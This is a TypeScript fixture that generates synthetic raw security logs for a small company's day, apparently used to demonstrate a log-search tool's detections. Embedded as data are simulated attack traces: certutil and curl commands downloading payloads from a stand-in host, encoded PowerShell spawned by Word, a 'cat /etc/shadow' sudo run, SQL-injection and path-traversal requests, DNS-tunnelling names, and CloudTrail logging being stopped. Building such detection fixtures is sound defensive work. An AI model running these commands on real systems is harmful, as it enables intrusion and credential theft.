/**
 * The data that the searches of `docs/COMING-FROM.md` are run over: one small company's Monday, and a little of its
 * Saturday, as raw records of the shapes that real sources write. They go through the real normaliser.
 */
import { auditExec } from '../../src/demo/lines/auditd.ts';
import { cefTraffic } from '../../src/demo/lines/cef.ts';
import { ctEntry } from '../../src/demo/lines/certstream.ts';
import { cloudCall } from '../../src/demo/lines/cloudtrail.ts';
import { ufw } from '../../src/demo/lines/netfilter.ts';
import * as ssh from '../../src/demo/lines/sshd.ts';
import { sudoRan, sudoWrong } from '../../src/demo/lines/sudo.ts';
import { syslog } from '../../src/demo/lines/syslog.ts';
import { vaultCall } from '../../src/demo/lines/vault.ts';
import { combined } from '../../src/demo/lines/web.ts';
import * as win from '../../src/demo/lines/windows.ts';
import { zeekConn, zeekDns, zeekSsl, zeekX509 } from '../../src/demo/lines/zeek.ts';

export type RawEvent = { readonly at: number; readonly raw: string };

const H = 3600e6;
const M = 60e6;
const S = 1e6;
/** `hh:mm:ss` of the Monday, or of the Saturday with `d` days on. */
const clock = (h: number, m = 0, s = 0, d = 0): number => d * 24 * H + h * H + m * M + s * S;

const sshd = (at: number, host: string, message: string): RawEvent => ({
  at,
  raw: syslog(
    { at, host, program: 'sshd', pid: 900 + Math.floor((at / S) % 90), facility: 'authpriv' },
    message,
  ),
});
const sudo = (at: number, host: string, message: string): RawEvent => ({
  at,
  raw: syslog({ at, host, program: 'sudo', pid: 0, facility: 'authpriv', severity: 5 }, message),
});
const json = (at: number, raw: string): RawEvent => ({ at, raw });

function authentication(t: number): RawEvent[] {
  const root = (port: number): ssh.SshPeer => ({ user: 'root', ip: '203.0.113.50', port });
  const from = (user: string, ip: string, port: number): ssh.SshPeer => ({ user, ip, port });
  const out: RawEvent[] = [];
  // Six guesses at root, the seventh is right.
  for (let i = 0; i < 6; i++)
    out.push(sshd(t + clock(3, 0, i * 5), 'web01', ssh.sshFailed(root(40_000 + i), true)));
  out.push(sshd(t + clock(3, 0, 40), 'web01', ssh.sshAcceptedPassword(root(40_010))));
  // One guess at each of five accounts.
  ['alice', 'bob', 'carol', 'dave', 'erin'].forEach((user, i) => {
    out.push(sshd(t + clock(4, i), 'db01', ssh.sshFailed(from(user, '198.51.100.7', 50_000 + i), true)));
  });
  out.push(
    sshd(t + clock(8), 'web01', ssh.sshAcceptedKey(from('alice', '10.0.1.5', 51_000), 'Q2x1Yi1hbGljZS1rZXk')),
  );
  out.push(sshd(t + clock(8, 5), 'db01', ssh.sshFailed(from('bob', '10.0.1.6', 51_100), true)));
  out.push(sshd(t + clock(8, 6), 'db01', ssh.sshAcceptedPassword(from('bob', '10.0.1.6', 51_101))));
  out.push(
    sshd(
      t + clock(11, 0, 0, 5),
      'web01',
      ssh.sshAcceptedKey(from('carol', '10.0.1.8', 51_200), 'Y2Fyb2wtc2F0'),
    ),
  );
  const command = (user: string, what: string) => ({
    user,
    tty: 'pts/0',
    pwd: `/home/${user}`,
    as: 'root',
    command: what,
  });
  out.push(sudo(t + clock(9), 'web01', sudoRan(command('alice', '/usr/bin/systemctl restart nginx'))));
  out.push(sudo(t + clock(9, 10), 'db01', sudoWrong(command('bob', '/usr/bin/less /var/log/syslog'), 3)));
  out.push(sudo(t + clock(9, 20), 'web01', sudoRan(command('carol', '/usr/bin/cat /etc/shadow'))));
  return out;
}

const SID = 'S-1-5-21-1004336348-1177238915-682003330-1101';
const who = (user: string): win.WinUser => ({ user, sid: SID });

function windows(t: number): RawEvent[] {
  let record = 1000;
  const h = (at: number, computer: string): win.WinHead => ({ at: t + at, computer, record: record++ });
  const logon = (user: string, ok: boolean, type: 2 | 3 | 10, ip: string): win.Logon => ({
    ...who(user),
    ok,
    type,
    ip,
    port: 49_700,
    workstation: 'WS-17',
    logonId: '0x3f2a1',
  });
  const start = (user: string, image: string, commandLine: string, parent: string): win.Start => ({
    ...who(user),
    image,
    commandLine,
    parent,
    parentLine: parent,
    pid: 4000 + record,
    ppid: 700,
    sha256: `${'0'.repeat(56)}${(record * 7919).toString(16).padStart(8, '0')}`.toUpperCase(),
  });
  const SYS = 'C:\\Windows\\System32\\';
  const PS = `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`;
  const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
  const EXPLORER = 'C:\\Windows\\explorer.exe';
  const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const raw: [number, string][] = [
    ...[0, 1, 2].map((i): [number, string] => [
      clock(10, i),
      win.winLogon(h(clock(10, i), 'dc01'), logon('alice', false, 3, '10.0.9.9')),
    ]),
    [clock(10, 30), win.winLogon(h(clock(10, 30), 'dc01'), logon('bob', true, 10, '10.0.1.6'))],
    [clock(10, 31), win.winLogon(h(clock(10, 31), 'dc01'), logon('alice', true, 3, '10.0.9.9'))],
    [clock(11), win.winUserCreated(h(clock(11), 'dc01'), who('bob'), who('helpdesk2'))],
    [
      clock(11, 1),
      win.winGroupJoined(h(clock(11, 1), 'dc01'), who('bob'), who('helpdesk2'), 'Domain Admins'),
    ],
    [clock(11, 5), win.winCleared(h(clock(11, 5), 'dc01'), who('bob'))],
    ...[0, 1, 2].map((i): [number, string] => [
      clock(9, 30 + i),
      win.sysmonProcess(
        h(clock(9, 30 + i), 'ws-17'),
        start('alice', CHROME, `"${CHROME}" --type=renderer`, EXPLORER),
      ),
    ]),
    [
      clock(9, 40),
      win.sysmonProcess(h(clock(9, 40), 'ws-17'), start('alice', PS, `${PS} -NoP -enc SQBFAFgA`, WORD)),
    ],
    [
      clock(9, 41),
      win.sysmonProcess(h(clock(9, 41), 'ws-17'), start('alice', `${SYS}whoami.exe`, 'whoami /all', PS)),
    ],
    [
      clock(9, 50),
      win.winProcess(
        h(clock(9, 50), 'ws-18'),
        start(
          'carol',
          `${SYS}certutil.exe`,
          'certutil -urlcache -f http://203.0.113.80/a.txt a.exe',
          `${SYS}cmd.exe`,
        ),
      ),
    ],
    [
      clock(9, 42),
      win.sysmonConnection(h(clock(9, 42), 'ws-17'), {
        user: 'alice',
        image: PS,
        pid: 5100,
        src: '10.0.2.17',
        spt: 50_100,
        dst: '203.0.113.80',
        dpt: 4444,
      }),
    ],
    [
      clock(9, 43),
      win.sysmonConnection(h(clock(9, 43), 'ws-17'), {
        user: 'alice',
        image: CHROME,
        pid: 5101,
        src: '10.0.2.17',
        spt: 50_101,
        dst: '198.51.100.20',
        dpt: 443,
      }),
    ],
  ];
  return raw.map(([at, text]) => json(t + at, text));
}

function linux(t: number): RawEvent[] {
  const at = t + clock(12);
  return [
    json(
      at,
      auditExec(
        { at, serial: 77, host: 'web01' },
        {
          pid: 3100,
          ppid: 3000,
          auid: 1000,
          uid: 33,
          session: 4,
          exe: '/usr/bin/curl',
          args: ['curl', '-o', '/tmp/x.sh', 'http://203.0.113.80/x.sh'],
          cwd: '/var/www',
          tty: 'pts0',
        },
      ),
    ),
  ];
}

function network(t: number): RawEvent[] {
  const out: RawEvent[] = [];
  // A scan of six ports.
  [22, 23, 80, 443, 3389, 8080].forEach((dpt, i) => {
    const at = t + clock(2, 0, i);
    const packet = {
      src: '198.51.100.9',
      dst: '10.0.0.10',
      spt: 60_000 + i,
      dpt,
      proto: 'TCP',
      id: i,
      uptime: 1000 + i,
    } as const;
    out.push({
      at,
      raw: syslog(
        { at, host: 'fw01', program: 'kernel', pid: 0, facility: 'kern', severity: 4 },
        ufw('BLOCK', packet),
      ),
    });
  });
  const traffic: readonly (readonly [number, boolean, string, string, number, string, number, number])[] = [
    [clock(13), true, '10.0.1.5', '203.0.113.90', 443, 'ssl', 6_000_000, 20_000],
    [clock(13, 1), true, '10.0.1.6', '198.51.100.20', 443, 'ssl', 4_000, 90_000],
    [clock(13, 2), true, '10.0.1.5', '198.51.100.20', 443, 'ssl', 3_000, 50_000],
    [clock(13, 3), false, '10.0.1.9', '203.0.113.66', 25, 'smtp', 0, 0],
    [clock(13, 4), false, '10.0.1.9', '203.0.113.67', 25, 'smtp', 0, 0],
  ];
  for (const [at, allow, src, dst, dpt, app, sent, received] of traffic)
    out.push({
      at: t + at,
      raw: cefTraffic({
        at: t + at,
        host: 'edge01',
        allow,
        src,
        spt: 52_000,
        dst,
        dpt,
        app,
        rule: allow ? 'out' : 'no mail',
        // CEF counts from source to destination as "in".
        sent: received,
        received: sent,
      }),
    });
  // Every ten minutes, the same few bytes.
  for (let i = 0; i < 12; i++) {
    const at = t + clock(14, i * 10);
    out.push(
      json(
        at,
        zeekConn(
          { at, uid: `C${i}beacon`, src: '10.0.1.7', spt: 45_000 + i, dst: '203.0.113.99', dpt: 443 },
          { proto: 'tcp', service: 'ssl', seconds: 1.5, sent: 512, received: 1024, state: 'SF' },
        ),
      ),
    );
  }
  return out;
}

function web(t: number): RawEvent[] {
  const CURL = 'curl/8.5.0';
  const FOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
  const hits: readonly (readonly [number, string, string, string, number, number, string])[] = [
    [clock(15), '10.0.1.5', 'GET', '/', 200, 5120, FOX],
    [clock(15, 1), '10.0.1.6', 'GET', '/products', 200, 9000, FOX],
    [clock(15, 2), '10.0.1.6', 'GET', '/products', 200, 9100, FOX],
    ...['/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/'].map(
      (p, i) => [clock(15, 3, i), '198.51.100.30', 'GET', p, 404, 150, CURL] as const,
    ),
    ...[0, 1, 2].map((i) => [clock(15, 4, i), '198.51.100.31', 'POST', '/login', 401, 90, FOX] as const),
    [clock(15, 5), '198.51.100.32', 'GET', "/item?id=1'%20OR%201=1--", 500, 300, 'sqlmap/1.8'],
    [clock(15, 6), '198.51.100.32', 'GET', '/download?file=../../../../etc/passwd', 500, 310, 'sqlmap/1.8'],
    [clock(15, 7), '10.0.1.5', 'GET', '/export.zip', 200, 80_000_000, FOX],
  ];
  return hits.map(([at, ip, method, path, status, bytes, agent]) => ({
    at: t + at,
    raw: syslog(
      { at: t + at, host: 'web01', program: 'nginx', pid: 0, facility: 'local7' },
      combined({ at: t + at, ip, method, path, status, bytes, agent }),
    ),
  }));
}

function dns(t: number): RawEvent[] {
  const ask = (at: number, src: string, name: string, i: number): RawEvent =>
    json(
      t + at,
      zeekDns(
        { at: t + at, uid: `D${i}${src}`, src, spt: 33_000 + i, dst: '10.0.0.53', dpt: 53 },
        name,
        '203.0.113.5',
      ),
    );
  return [
    ...[0, 1, 2, 3, 4].map((i) => ask(clock(16, i), `10.0.1.${5 + i}`, 'www.example.com', i)),
    // Data in names: many, long, all below one domain.
    ...Array.from({ length: 8 }, (_, i) =>
      ask(
        clock(16, 10, i),
        '10.0.1.7',
        `${(i + 11).toString(36).repeat(20)}${i}.${'q7'.repeat(12)}.t.example.org`,
        20 + i,
      ),
    ),
    ask(clock(16, 20), '10.0.1.6', 'update.example.net', 40),
  ];
}

function cloud(t: number): RawEvent[] {
  let n = 0;
  const call = (
    at: number,
    user: string,
    service: string,
    name: string,
    more: Partial<Parameters<typeof cloudCall>[0]> = {},
  ): RawEvent =>
    json(
      t + at,
      cloudCall({
        at: t + at,
        id: `00000000-0000-4000-8000-${String(++n).padStart(12, '0')}`,
        caller: { user },
        ip: '10.0.1.6',
        agent: 'aws-cli/2.15',
        service,
        name,
        ...more,
      }),
    );
  return [
    call(clock(17), 'alice', 'signin', 'ConsoleLogin', {
      ip: '203.0.113.50',
      response: { ConsoleLogin: 'Success' },
      extra: { MFAUsed: 'No' },
    }),
    call(clock(17, 1), 'bob', 'signin', 'ConsoleLogin', {
      response: { ConsoleLogin: 'Success' },
      extra: { MFAUsed: 'Yes' },
    }),
    call(clock(17, 2), 'dave', 'signin', 'ConsoleLogin', {
      ip: '198.51.100.7',
      response: { ConsoleLogin: 'Failure' },
      extra: { MFAUsed: 'No' },
    }),
    call(clock(17, 5), 'bob', 'iam', 'CreateAccessKey', {
      request: { userName: 'svc-backup' },
      response: { accessKey: { userName: 'svc-backup', accessKeyId: 'AKIAEXAMPLE', status: 'Active' } },
    }),
    call(clock(17, 6), 'bob', 'cloudtrail', 'StopLogging', { request: { name: 'main' } }),
    ...['s3:ListBuckets', 'iam:ListUsers', 'ec2:DescribeInstances', 'kms:ListKeys'].map((x, i) => {
      const [service = '', name = ''] = x.split(':');
      return call(clock(17, 10, i), 'svc-backup', service, name, {
        ip: '203.0.113.50',
        error: 'AccessDenied',
      });
    }),
  ];
}

function certificates(t: number): RawEvent[] {
  const ct = (at: number, index: number, name: string, issuer: string): RawEvent =>
    json(
      t + at,
      ctEntry({
        at: t + at,
        index,
        name,
        issuer,
        organisation: 'Example Trust',
        serial: `0a${index}`,
        fingerprint: `ab${String(index).padStart(38, '0')}`,
      }),
    );
  const flow = (at: number, uid: string, dst: string) => ({
    at: t + at,
    uid,
    src: '10.0.1.5',
    spt: 47_000,
    dst,
    dpt: 443,
  });
  const issue = vaultCall({
    at: t + clock(18, 10),
    id: 'req-1',
    who: 'approle-web-enroll',
    policies: ['web-enroll'],
    operation: 'update',
    mount: 'pki',
    path: 'pki/issue/web',
    ip: '10.0.0.20',
    data: { common_name: 'hmac-sha256:00' },
    response: { serial_number: '0b:22:33', certificate: 'hmac-sha256:11' },
  });
  const read = vaultCall({
    at: t + clock(18, 15),
    id: 'req-2',
    who: 'ldap-bob',
    policies: ['ops'],
    operation: 'read',
    mount: 'kv',
    path: 'kv/data/db/password',
    ip: '10.0.1.6',
  });
  return [
    ct(clock(18), 1, 'www.example.com', 'Example Issuing CA 1'),
    ct(clock(18, 1), 2, 'vpn.example.com', 'Cheap And Quick CA'),
    ct(clock(18, 2), 3, 'www.example.net', 'Cheap And Quick CA'),
    json(
      t + clock(18, 5),
      zeekX509({
        at: t + clock(18, 5),
        fingerprint: 'c0'.repeat(20),
        serial: '0c99',
        name: 'shop.example.com',
        issuer: 'Example Issuing CA 1',
        organisation: 'Example Trust',
        days: 10,
      }),
    ),
    json(
      t + clock(18, 6),
      zeekX509({
        at: t + clock(18, 6),
        fingerprint: 'c1'.repeat(20),
        serial: '0c9a',
        name: 'mail.example.com',
        issuer: 'Example Issuing CA 1',
        organisation: 'Example Trust',
        days: 200,
      }),
    ),
    json(
      t + clock(18, 7),
      zeekSsl(flow(clock(18, 7), 'Cbadtls', '203.0.113.99'), {
        name: 'cdn.example.org',
        issuer: 'Unknown CA',
        valid: false,
      }),
    ),
    json(
      t + clock(18, 8),
      zeekSsl(flow(clock(18, 8), 'Cgoodtls', '198.51.100.20'), {
        name: 'www.example.com',
        issuer: 'Example Issuing CA 1',
        valid: true,
      }),
    ),
    ...issue.map((raw, i) => json(t + clock(18, 10) + i * 4000, raw)),
    ...read.map((raw, i) => json(t + clock(18, 15) + i * 4000, raw)),
  ];
}

/** All records, oldest first. `monday`: 00:00 UTC of a Monday, microseconds. */
export const companyWeek = (monday: number): RawEvent[] =>
  [authentication, windows, linux, network, web, dns, cloud, certificates]
    .flatMap((make) => make(monday))
    .sort((a, b) => a.at - b.at);
